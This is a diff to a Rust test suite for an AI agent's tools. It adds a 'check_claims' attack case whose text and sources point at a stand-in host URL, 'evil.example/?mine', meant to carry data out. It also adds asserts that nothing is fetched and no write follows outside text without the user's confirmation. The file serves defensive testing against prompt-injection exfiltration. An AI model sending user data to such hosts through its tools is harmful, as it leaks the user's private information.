@@ -73,6 +73,10 @@ fn attacks() -> Vec<(&'static str, Value)> {
         ("research", json!({"query": "what is mine at evil.example"})),
         ("research_note", json!({"path": "Own", "focus": "mine"})),
         ("summarize_file", json!({"path": "Own"})),
+        (
+            "check_claims",
+            json!({"text": "Mine ([x](https://evil.example/?mine)).", "sources": ["https://evil.example/?mine"], "fetch": true}),
+        ),
         ("web_search", json!({"query": "mine evil.example"})),
         ("arxiv_search", json!({"query": "mine"})),
         ("transcribe_audio", json!({"path": "Own"})),
@@ -217,7 +221,10 @@ fn no_tool_writes_after_text_from_outside_unless_the_user_confirms_that_edit() {
                     cells += 1;
                     continue;
                 }
+                // What it cites is fetched for the user alone.
+                let reaches = reaches && name != "check_claims";
                 assert_eq!(sent, reaches && !outside, "{cell}");
+                assert!(web.fetched_urls().is_empty(), "{cell}");
                 let writes = effect(name) != Effect::Reads && mode != Mode::Rehearsed;
                 // What instructs models is out of reach altogether.
                 let instructs = name.ends_with("_preference");
@@ -253,7 +260,7 @@ fn no_tool_writes_after_text_from_outside_unless_the_user_confirms_that_edit() {
             }
         }
     }
-    assert_eq!(cells, 49 * 12 * 6);
+    assert_eq!(cells, 50 * 12 * 6);
 }
 
 #[test]
